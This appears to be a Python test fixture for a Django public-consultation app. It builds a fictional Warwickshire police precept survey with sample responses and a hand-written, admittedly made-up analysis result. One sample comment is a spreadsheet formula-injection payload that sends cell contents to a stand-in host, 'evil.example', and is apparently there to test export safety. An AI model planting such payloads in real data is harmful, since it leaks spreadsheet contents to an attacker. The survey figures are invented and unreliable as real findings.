"""A precept consultation in Warwickshire, its responses, and an analysis result written by hand.

The result has the shape analysis.analyse() returns (see the brief in models.Run's docstring);
its figures are made up but hang together: the results pages, exports and PDF are tested against
it, and against a real analysis of the responses where the analysis is at hand.
"""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from typing import Any

from django.utils import timezone

from engage.consultations.models import (
    Consultation,
    Option,
    Question,
    QuestionKind,
    Response,
    ResponseChannel,
    Run,
    RunKind,
    RunStatus,
    Section,
    Statement,
    StatementStatus,
    Status,
    StrategicArea,
    Theme,
    ThemeCode,
)
from engage.core.models import Office
from engage.places.models import Area, AreaKind

DISTRICTS = ["North Warwickshire", "Nuneaton and Bedworth", "Rugby", "Stratford-on-Avon", "Warwick"]
COMPUTED_AT = "2026-02-20T10:15:00+00:00"


def build_consultation(
    office: Office,
    *,
    status: str = Status.ANALYSED,
    slug: str = "precept-2027",
    with_areas: bool = True,
) -> Consultation:
    """The consultation, its questions, and 24 responses (online and paper).

    `with_areas=False` leaves out Warwickshire and its districts (for a test that makes its own).
    """
    county = None
    districts: list[Area | None] = [None]
    if with_areas:
        county, _ = Area.objects.get_or_create(
            office=office, kind=AreaKind.FORCE_AREA, name="Warwickshire"
        )
        districts = [
            Area.objects.get_or_create(
                office=office, kind=AreaKind.DISTRICT, name=name, defaults={"parent": county}
            )[0]
            for name in DISTRICTS
        ]
    consultation = Consultation.objects.create(
        office=office,
        title="Police and crime precept 2027/28",
        title_cy="Praesept yr heddlu a throseddu 2027/28",
        slug=slug,
        description="How much should you pay towards policing next year?",
        strategic_area=StrategicArea.PRECEPT,
        area=county,
        opens_on=dt.date(2026, 1, 5),
        closes_on=dt.date(2026, 2, 1),
        status=status,
        results_summary="Most people who answered would pay £14 more a year for policing.",
        results_summary_cy="Byddai'r rhan fwyaf yn talu £14 yn fwy y flwyddyn am blismona.",
    )
    section = Section.objects.create(consultation=consultation, title="Your views", position=1)

    def question(kind: str, text: str, position: int, **fields: Any) -> Question:
        return Question.objects.create(
            consultation=consultation,
            section=section,
            kind=kind,
            text=text,
            position=position,
            **fields,
        )

    precept = question(
        QuestionKind.PRECEPT,
        "How much more would you pay a year for policing (Band D)?",
        1,
        band_d_current=Decimal("283.59"),
    )
    for position, (label, amount) in enumerate(
        [("No increase", "0"), ("£10 more a year", "10"), ("£14 more a year", "14")]
    ):
        Option.objects.create(
            question=precept, label=label, amount=Decimal(amount), position=position
        )
    safe = question(QuestionKind.SCALE, "How safe do you feel in your area after dark?", 2)
    safe.scale_min, safe.scale_max = 1, 5
    safe.scale_min_label, safe.scale_max_label = "Very unsafe", "Very safe"
    safe.save()
    priorities = question(
        QuestionKind.MULTIPLE, "Which should be the Commissioner's priorities?", 3
    )
    for position, label in enumerate(
        ["Neighbourhood policing", "Tackling violence against women and girls", "Road safety"]
    ):
        Option.objects.create(question=priorities, label=label, position=position)
    comments = question(QuestionKind.TEXT, "Is there anything else you want to tell us?", 4)
    statements = question(QuestionKind.STATEMENTS, "Do you agree?", 5)
    for text in [
        "Police should be seen more in town centres",
        "Speed cameras are mostly about raising money",
        "I would report anti-social behaviour online if it were easier",
    ]:
        Statement.objects.create(question=statements, text=text, status=StatementStatus.APPROVED)

    options = {o.label: o.pk for o in Option.objects.filter(question__consultation=consultation)}
    texts = [
        "We never see a police officer in our village any more.",
        "Speeding on the A46 is out of control at night.",
        '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")',
        "More PCSOs on foot in Nuneaton town centre, please.",
        "",
    ]
    ages = ["16-24", "25-34", "35-44", "45-54", "55-64", "65-74", "75+", "prefer_not"]
    for i in range(24):
        answers: dict[str, Any] = {
            precept.key: options[["No increase", "£10 more a year", "£14 more a year"][i % 3]],
            safe.key: 1 + i % 5,
            priorities.key: [options["Neighbourhood policing"], options["Road safety"]][
                : 1 + i % 2
            ],
        }
        if texts[i % 5]:
            answers[comments.key] = texts[i % 5]
        Response.objects.create(
            office=office,
            consultation=consultation,
            channel=ResponseChannel.PAPER if i % 4 == 0 else ResponseChannel.ONLINE,
            answers=answers,
            submitted_at=timezone.make_aware(dt.datetime(2026, 1, 6 + i, 9, 30)),
            age_band=ages[i % 8],
            sex=["female", "male", ""][i % 3],
            ethnic_group=["white", "asian", "white", "black"][i % 4],
            disability=["no", "a_little", "no"][i % 3],
            area=districts[i % len(districts)],
            postcode_district=["CV11", "CV21", "CV37", "B46", "CV34"][i % 5],
            wants_outcome=i % 2 == 0,
            email=f"resident{i}@example.org" if i % 3 != 2 else "",
            source_id=f"P-{i:03d}" if i % 4 == 0 else "",
        )
    # An unfinished online draft is never counted or exported.
    Response.objects.create(office=office, consultation=consultation, answers={})
    return consultation


def themes_for(consultation: Consultation) -> list[Theme]:
    """Two automatic themes of the free-text question, coded on the matching answers."""
    question = consultation.questions.get(kind=QuestionKind.TEXT)
    visible = Theme.objects.create(
        question=question, label="Police visibility", keywords=["police", "see"], position=1
    )
    speeding = Theme.objects.create(
        question=question, label="Speeding", keywords=["speeding", "a46"], position=2
    )
    for response in consultation.responses.filter(submitted_at__isnull=False):
        text = response.answers.get(question.key, "")
        if "police" in text.lower() or "pcso" in text.lower():
            ThemeCode.objects.create(theme=visible, response=response)
        if "speeding" in text.lower():
            ThemeCode.objects.create(theme=speeding, response=response)
    return [visible, speeding]


def result_for(consultation: Consultation) -> dict[str, Any]:
    """A full analysis result for the consultation (figures as if 2,013 people had answered)."""
    questions = {q.kind: q for q in consultation.questions.all()}
    precept = questions[QuestionKind.PRECEPT]
    safe = questions[QuestionKind.SCALE]
    priorities = questions[QuestionKind.MULTIPLE]
    text = questions[QuestionKind.TEXT]
    statements_q = questions[QuestionKind.STATEMENTS]
    opt = {o.label: o.pk for o in Option.objects.filter(question__consultation=consultation)}
    areas = {
        a.name: a.pk
        for a in Area.objects.filter(office=consultation.office, kind=AreaKind.DISTRICT)
    }
    statements = list(statements_q.statements.all())
    themes = list(text.themes.all())

    def row(key: Any, label: str, n: int, pct: float, wpct: float, moe: float) -> dict:
        return {
            "key": key,
            "label": label,
            "n": n,
            "pct": pct,
            "weighted_pct": wpct,
            "moe": moe,
        }

    def crosstab(groups: list[tuple[str, str, int, float]], keys: list[Any]) -> list[dict]:
        out = []
        for g, (code, label, n, wn) in enumerate(groups):
            shares = [(40 + 7 * g) / 100, (25 - 2 * g) / 100]
            shares.append(1 - sum(shares))
            counts = [round(n * s) for s in shares]
            counts[-1] = n - sum(counts[:-1])
            out.append(
                {
                    "group": code,
                    "label": label,
                    "n": n,
                    "weighted_n": wn,
                    "cells": [
                        {
                            "key": key,
                            "n": c,
                            "pct": round(100 * c / n, 1),
                            "weighted_pct": round(100 * c / n + 1.5 - g, 1),
                        }
                        for key, c in zip(keys, counts, strict=True)
                    ],
                }
            )
        return out

    precept_keys = [opt["No increase"], opt["£10 more a year"], opt["£14 more a year"]]
    age_groups = [
        ("16-24", "16 to 24", 7, 180.5),
        ("25-34", "25 to 34", 96, 260.0),
        ("35-44", "35 to 44", 210, 290.3),
        ("45-54", "45 to 54", 402, 320.8),
        ("55-64", "55 to 64", 511, 300.1),
        ("65-74", "65 to 74", 412, 240.6),
        ("75+", "75 or over", 236, 204.9),
    ]
    district_groups = [
        (str(areas.get(name, i)), name, n, wn)
        for i, (name, n, wn) in enumerate(
            zip(
                DISTRICTS,
                [210, 402, 388, 502, 446],
                [330.2, 383.5, 310.0, 420.4, 430.1],
                strict=True,
            )
        )
    ]
    return {
        "version": 1,
        "computed_at": COMPUTED_AT,
        "consultation": consultation.pk,
        "base": {
            "responses": 2013,
            "with_demographics": 1874,
            "weighted": True,
            "weighted_n": 1874.0,
            "effective_n": 1102.4,
            "design_effect": 1.70,
            "efficiency": 0.588,
            "margin_of_error": 2.95,
            "note": "139 responses without age, sex, ethnic group or district have weight 1.",
        },
        "weighting": {
            "dimensions": ["age_band", "sex", "ethnic_group", "area"],
            "trim": [0.2, 5.0],
            "targets": {"sex": {"female": 0.507, "male": 0.493}},
            "achieved": {"sex": {"female": 0.507, "male": 0.493}},
            "cells": [],
            "area_labels": {g[0]: g[1] for g in district_groups},
            "source": "Census 2021 (ONS TS007A, TS021)",
        },
        "representativeness": [
            {
                "dimension": "age_band",
                "category": code,
                "label": label,
                "respondents": n,
                "respondent_share": n / 1874,
                "population_share": share / 100,
                "index": round((100 * n / 1874) / share, 2),
                "under_represented": (100 * n / 1874) / share < 0.8,
            }
            for (code, label, n, _wn), share in zip(
                age_groups, [14.2, 15.1, 15.4, 17.1, 16.0, 12.3, 9.9], strict=True
            )
        ]
        + [
            {
                "dimension": "sex",
                "category": "female",
                "label": "Female",
                "respondents": 1090,
                "respondent_share": 0.5820,
                "population_share": 0.5070,
                "index": 1.15,
                "under_represented": False,
            },
            {
                "dimension": "sex",
                "category": "male",
                "label": "Male",
                "respondents": 784,
                "respondent_share": 0.4180,
                "population_share": 0.4930,
                "index": 0.85,
                "under_represented": False,
            },
            {
                "dimension": "ethnic_group",
                "category": "asian",
                "label": "Asian, Asian British or Asian Welsh",
                "respondents": 41,
                "respondent_share": 0.0220,
                "population_share": 0.0610,
                "index": 0.36,
                "under_represented": True,
            },
            {
                "dimension": "ethnic_group",
                "category": "black",
                "label": "Black, Black British, Black Welsh, Caribbean or African",
                "respondents": 6,
                "respondent_share": 0.0030,
                "population_share": 0.0120,
                "index": 0.25,
                "under_represented": True,
            },
            {
                "dimension": "ethnic_group",
                "category": "white",
                "label": "White",
                "respondents": 1827,
                "respondent_share": 0.9750,
                "population_share": 0.9270,
                "index": 1.05,
                "under_represented": False,
            },
        ],
        "questions": [
            {
                "id": precept.pk,
                "kind": "precept",
                "text": precept.text,
                "n": 1950,
                "weighted_n": 1940.2,
                "results": [
                    row(opt["No increase"], "No increase", 507, 26.0, 29.4, 2.7),
                    row(opt["£10 more a year"], "£10 more a year", 604, 31.0, 31.8, 2.8),
                    row(opt["£14 more a year"], "£14 more a year", 839, 43.0, 38.8, 2.9),
                ],
                "mean": {"n": 1950, "mean": 8.45, "weighted_mean": 8.0},
                "ranking": None,
                "crosstabs": {
                    "age_band": crosstab(age_groups, precept_keys),
                    "area": crosstab(district_groups, precept_keys),
                },
                "themes": [],
                "opinion": None,
            },
            {
                "id": safe.pk,
                "kind": "scale",
                "text": safe.text,
                "n": 1990,
                "weighted_n": 1985.0,
                "results": [
                    row(1, "1 Very unsafe", 120, 6.0, 7.1, 1.5),
                    row(2, "2", 318, 16.0, 17.2, 2.2),
                    row(3, "3", 597, 30.0, 29.5, 2.7),
                    row(4, "4", 716, 36.0, 34.9, 2.8),
                    row(5, "5 Very safe", 239, 12.0, 11.3, 1.9),
                ],
                "mean": {"n": 1990, "mean": 3.32, "weighted_mean": 3.26},
                "ranking": None,
                "crosstabs": {},
                "themes": [],
                "opinion": None,
            },
            {
                "id": priorities.pk,
                "kind": "multiple",
                "text": priorities.text,
                "n": 1902,
                "weighted_n": 1899.5,
                "results": [
                    row(
                        opt["Neighbourhood policing"],
                        "Neighbourhood policing",
                        1407,
                        74.0,
                        71.2,
                        2.6,
                    ),
                    row(
                        opt["Tackling violence against women and girls"],
                        "Tackling violence against women and girls",
                        989,
                        52.0,
                        55.3,
                        2.9,
                    ),
                    row(opt["Road safety"], "Road safety", 8, 0.4, 0.5, 0.4),
                ],
                "mean": None,
                "ranking": None,
                "crosstabs": {},
                "themes": [],
                "opinion": None,
            },
            {
                "id": text.pk,
                "kind": "text",
                "text": text.text,
                "n": 812,
                "weighted_n": 800.3,
                "results": [],
                "mean": None,
                "ranking": None,
                "crosstabs": {},
                "themes": [
                    {
                        "id": themes[0].pk if themes else 1,
                        "label": "Police visibility",
                        "keywords": ["police", "see", "village", "officer"],
                        "n": 301,
                        "pct": 37.1,
                        "quotes": [
                            "We never see a police officer in our village any more.",
                            "More PCSOs on foot in Nuneaton town centre, please.",
                        ],
                    },
                    {
                        "id": themes[1].pk if len(themes) > 1 else 2,
                        "label": "Speeding",
                        "keywords": ["speeding", "a46", "cameras"],
                        "n": 7,
                        "pct": 0.9,
                        "quotes": ["Speeding on the A46 is out of control at night."],
                    },
                ],
                "opinion": None,
            },
            {
                "id": statements_q.pk,
                "kind": "statements",
                "text": statements_q.text,
                "n": 640,
                "weighted_n": 630.0,
                "results": [],
                "mean": None,
                "ranking": None,
                "crosstabs": {},
                "themes": [],
                "opinion": {
                    "k": 2,
                    "participants": 602,
                    "groups": [{"id": 0, "size": 371}, {"id": 1, "size": 231}],
                    "group_statements": [
                        {
                            "group": 0,
                            "statement": statements[0].pk,
                            "text": statements[0].text,
                            "agree_in": 88.0,
                            "agree_out": 41.0,
                            "repness": 2.1,
                        },
                        {
                            "group": 1,
                            "statement": statements[1].pk,
                            "text": statements[1].text,
                            "agree_in": 79.0,
                            "agree_out": 22.0,
                            "repness": 3.4,
                        },
                    ],
                    "consensus": [
                        {
                            "statement": statements[2].pk,
                            "text": statements[2].text,
                            "agree": 81.0,
                            "disagree": 6.0,
                        }
                    ],
                    "statements": [
                        {
                            "id": s.pk,
                            "text": s.text,
                            "votes": 600 - 50 * i,
                            "agree": [70.0, 45.0, 81.0][i],
                            "disagree": [20.0, 40.0, 6.0][i],
                            "pass": [10.0, 15.0, 13.0][i],
                            "by_group": {
                                "0": {"agree": [88.0, 30.0, 80.0][i], "disagree": 8.0, "n": 360},
                                "1": {"agree": [41.0, 79.0, 83.0][i], "disagree": 30.0, "n": 8},
                            },
                        }
                        for i, s in enumerate(statements)
                    ],
                },
            },
        ],
    }


def finished_analysis(consultation: Consultation, result: dict | None = None) -> Run:
    """A done analysis Run holding the hand-written result."""
    return Run.objects.create(
        office=consultation.office,
        consultation=consultation,
        kind=RunKind.ANALYSIS,
        status=RunStatus.DONE,
        progress=100,
        result=result or result_for(consultation),
        started_at=dt.datetime.fromisoformat(COMPUTED_AT),
        finished_at=dt.datetime.fromisoformat(COMPUTED_AT),
    )
